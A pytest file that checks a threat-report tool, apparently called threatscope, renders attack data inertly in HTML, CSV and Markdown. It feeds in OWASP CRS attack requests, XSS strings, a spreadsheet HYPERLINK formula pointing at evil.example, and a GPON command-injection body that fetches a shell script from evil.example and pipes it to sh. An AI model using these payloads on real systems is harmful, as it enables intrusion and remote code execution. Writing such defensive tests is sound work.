"""A workspace full of real attack payloads, end to end: the OWASP CRS regression requests
(XSS, SQLi, command injection) as URIs, user agents and referers of web requests at three
organisations, hostile organisation names and sectors, and exploit requests whose payload URLs
reach the indicators appendix; ``threatscope run`` over it (ingest, detect, enrich, report),
then the report in headless Chromium: no script runs, nothing is fetched, payloads are text,
and no CSV cell is a formula. Skipped without ../shared/data or Chromium."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest

from tests.report.browser import CHROMIUM, chromium, page_requests
from tests.report.helpers import Page
from tests.report.test_report import ALLOWED_TAGS
from threatscope.report.tables import FORMULA_START

CRS = Path(__file__).resolve().parents[2] / ".." / "shared" / "data" / "web" / "crs_requests.jsonl"
BIN = str(Path(sys.executable).parent / "threatscope")
pytestmark = [pytest.mark.browser,
              pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")]

ORGS = ("acme", "globex", "initech")
# from the organisations file: what a script would do if any of it ran
TITLE_PAYLOAD = "<script>document.title='pwned'</script>"
ATTR_PAYLOAD = "<img src=x onerror=\"document.body.setAttribute('data-pwned','1')\">"
FORMULA_SECTOR = '=HYPERLINK("http://evil.example/x","click")'
# the exploit (GPON) requests' download URL, which the enrich stage lists as a payload indicator
PAYLOAD_URL = "http://evil.example/bins/x{i}.sh?a=javascript:alert&b=@SUM&c=-cmd"


def _crs_sample(n: int = 300) -> list[dict]:
    """Every k-th XSS (941), SQLi (942) and RCE (932) request that CRS expects to match."""
    rows = [json.loads(line) for line in CRS.read_text(encoding="utf-8").splitlines()]
    attacks = [r for r in rows if r.get("expect_match") and str(r["rule_id"])[:3] in
               ("941", "942", "932") and r.get("method") in ("GET", "POST")]
    return attacks[::max(1, len(attacks) // n)][:n]


def _payload(r: dict) -> str:
    """The attack text of a request: its decoded body, or its decoded URI."""
    body = r["body"] if isinstance(r["body"], str) else json.dumps(r["body"])
    return urllib.parse.unquote_plus(body.strip() or r["uri"])


def _write_workspace_inputs(root: Path) -> tuple[Path, list[str]]:
    """orgs.csv and <org>/web.jsonl (http-jsonl), in the baseline and the period."""
    sample = _crs_sample()
    root.mkdir(parents=True)
    with open(root / "orgs.csv", "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["org_id", "name", "sector"])
        w.writerow(["acme", f"Acme {TITLE_PAYLOAD}", ATTR_PAYLOAD])
        w.writerow(["globex", "Globex", FORMULA_SECTOR])
        w.writerow(["initech", "Initech", TITLE_PAYLOAD])
    files = {o: [] for o in ORGS}
    payloads = [_payload(r) for r in sample]
    for i, r in enumerate(sample):
        org = ORGS[i % len(ORGS)]
        headers = {"Host": "www.example.com", "User-Agent": payloads[(i + 1) % len(sample)],
                   "Referer": payloads[(i + 2) % len(sample)]}
        for ts in (f"2018-02-{1 + i % 28:02d}T09:00:00Z",
                   f"2018-05-{1 + i % 28:02d}T10:{i % 60:02d}:00Z"):
            files[org].append({"ts": ts, "src_ip": f"203.0.113.{i % 60}", "method": r["method"],
                               "uri": r["uri"], "headers": headers, "body": r["body"],
                               "org_id": org})
        if i % 10 == 0:  # an exploit campaign carrying a payload URL and an XSS user agent
            files[org].append({
                "ts": f"2018-05-{1 + i % 28:02d}T11:00:00Z", "src_ip": f"198.51.100.{i % 20}",
                "method": "POST", "uri": "/GponForm/diag_Form?images/",
                "headers": {"User-Agent": payloads[i], "Referer": payloads[-i]},
                "body": "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+"
                        + PAYLOAD_URL.format(i=i) + "+-O+-|sh`;sh&ipv=0",
                "org_id": org})
    for org, rows in files.items():
        (root / org).mkdir()
        (root / org / "web.jsonl").write_text(
            "".join(json.dumps(x, ensure_ascii=False) + "\n" for x in rows), encoding="utf-8")
    return root / "orgs.csv", payloads


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    if not CRS.is_file():
        pytest.skip(f"{CRS} is absent (the shared public data)")
    root = tmp_path_factory.mktemp("hostile-ws")
    orgs, payloads = _write_workspace_inputs(root / "data")
    out = root / "out"
    r = subprocess.run([BIN, "run", "-w", str(root / "ws"), "--orgs", str(orgs),
                        *[str(root / "data" / o) for o in ORGS], "-o", str(out)],
                       capture_output=True, text=True, timeout=300, check=False)
    assert r.returncode == 0, r.stdout + r.stderr
    print(f"hostile report: {out}")
    return root, out, json.loads((out / "report.json").read_text(encoding="utf-8")), payloads


def test_payloads_reach_the_report_sections(hostile_run):
    """The workspace is what it claims to be: attacks were detected and the hostile strings
    are in the metrics the report shows (otherwise the browser tests below prove nothing)."""
    _, _, m, _ = hostile_run
    families = {f["family"] for f in m["families"] if f["period"]}
    assert {"xss", "sqli"} <= families, families
    assert "gpon" in {c["campaign"] for c in m["campaigns"]}
    assert m["sources"]["top_ips"]
    sectors = {s["sector"] for s in m["sectors"]}
    assert {ATTR_PAYLOAD, FORMULA_SECTOR, TITLE_PAYLOAD} <= sectors
    values = {a["value"] for a in m["indicators"]["appendix"]}
    assert any(v.startswith("http://evil.example/bins/") for v in values), values


def test_no_script_runs_and_payloads_stay_text(hostile_run, tmp_path):
    _, out, m, _ = hostile_run
    html = out / "report.html"
    r = chromium(tmp_path, "--virtual-time-budget=5000", "--dump-dom", html.as_uri())
    assert r.returncode == 0, r.stderr[-2000:]
    dom = Page(r.stdout)
    assert len(dom.elements) > 300  # the whole report was loaded
    title = re.search(r"<title>(.*?)</title>", r.stdout, re.S)
    assert title and title[1] == f"Threat report {m['period']['label']}"  # not 'pwned'
    assert dom.tags() <= ALLOWED_TAGS, dom.tags() - ALLOWED_TAGS
    for tag, attrs in dom.elements:
        assert not any(k.startswith("on") or k == "data-pwned" for k in attrs), (tag, attrs)
    text = dom.text
    for p in (TITLE_PAYLOAD, ATTR_PAYLOAD, FORMULA_SECTOR):
        assert p in text, p
    urls = [a["value"] for a in m["indicators"]["appendix"] if "evil.example" in a["value"]]
    assert urls and all(u in text for u in urls[:20])
    links = [a.get("href") for t, a in dom.elements if t == "a"]
    assert all(h and h.startswith("#") for h in links), links


def test_no_network_request(hostile_run, tmp_path):
    _, out, _, _ = hostile_run
    log = tmp_path / "net.json"
    r = chromium(tmp_path, f"--log-net-log={log}", "--virtual-time-budget=5000", "--dump-dom",
                 (out / "report.html").as_uri())
    assert r.returncode == 0, r.stderr[-2000:]
    assert page_requests(log) == []
    # the method sees a page's fetch: the look-alike page with one image asks for it
    probe = tmp_path / "probe.html"
    probe.write_text('<p>x<img src="http://127.0.0.1:9/probe.png"></p>', encoding="utf-8")
    log2 = tmp_path / "net2.json"
    chromium(tmp_path, f"--log-net-log={log2}", "--virtual-time-budget=5000", "--dump-dom",
             probe.as_uri())
    assert page_requests(log2) == ["http://127.0.0.1:9/probe.png"]


def _is_number(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True


def test_csv_cells_are_not_formulas(hostile_run):
    _, out, _, _ = hostile_run
    cells = []
    for path in sorted((out / "tables").glob("*.csv")):
        with open(path, encoding="utf-8", newline="") as f:
            cells += [(path.name, c) for row in csv.reader(f) for c in row]
    assert len(cells) > 500
    bad = [(n, c) for n, c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert bad == []
    # the hostile sector is in sectors.csv, defused with a leading apostrophe
    assert ("sectors.csv", "'" + FORMULA_SECTOR) in cells


def test_markdown_keeps_payloads_inert(hostile_run):
    """The same payloads in report.md: entities, never raw markup a Markdown viewer would run."""
    _, out, _, _ = hostile_run
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;" in md  # shown, as text
    assert "<script" not in md.lower() and "<img" not in md.lower()
    assert "http://evil.example" not in md  # escaped so that no viewer autolinks it
